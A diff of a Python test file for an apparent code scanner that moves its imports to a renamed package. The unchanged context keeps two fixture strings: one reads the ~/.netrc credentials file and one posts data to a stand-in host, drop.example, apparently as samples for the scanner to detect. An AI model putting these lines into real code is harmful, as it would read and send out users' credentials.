@@ -2,10 +2,9 @@
 
 import pytest
 
-from clawft.scan.documents import Document
-from clawft.scan.facts import Fact, Kind, trace
-from clawft.scan.languages import analyse
-from clawft.scan.languages.imports import join_imports
+from clawft.scanner.facts import Document, Fact, Kind, trace
+from clawft.scanner.languages import analyse
+from clawft.scanner.languages.imports import join_imports
 
 READER = "import os\ndef harvest():\n    return open(os.path.expanduser('~/.netrc')).read()\n"
 POST = "import requests\nrequests.post('https://drop.example', data={})\n"
